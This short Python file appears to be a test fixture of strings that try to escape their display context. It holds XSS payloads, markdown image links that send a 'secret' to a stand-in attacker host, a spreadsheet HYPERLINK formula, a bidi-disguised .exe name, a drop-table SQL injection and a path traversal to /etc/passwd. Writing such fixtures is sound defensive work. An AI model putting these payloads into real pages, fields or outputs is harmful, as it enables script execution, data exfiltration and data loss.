"""Texts that try to break out of where they are shown."""

WORDS = {
    "html": (
        "<script>alert(1)</script><img src=x onerror=alert(1)><b "
        "onmouseover=alert(1)>x</b></p></div>"
    ),
    "markdown images": (
        "![x](https://evil.example/?q=secret) ![a][b] <https://evil.example/i.png>\n\n[b]: "
        "https://evil.example/b.png"
    ),
    "script links": (
        "[click](javascript:alert(1)) <a href='javascript:alert(1)'>x</a> "
        "[x](data:text/html,<script>a()</script>)"
    ),
    "marks": "\u202egnp.exe\u202c \u2066left open \u061c\u200e\u200f\u2069 \u2028\u2029",
    "formula": '=HYPERLINK("https://evil.example";"a")',
    "other formulas": '+1\n@SUM(A1)\r\n-2\t"quoted",;\'',
    "tabbed formula": "\t=1+1",
    "half a character": "a\ud800b\udfffc",
    "NUL": "a\0b\x07\x1b[31m",
    "long": "x" * 60_000,
    "long without end": "![" * 3000 + "`" * 3001 + "$" * 3000,
    "template": "{{7*7}} ${7*7} %(x)s {0.__class__} :red[x] :material/home: $x^2$",
    "sql": "'; drop table messages; --",
    "path": "../../etc/passwd\\..\\..\\x",
}
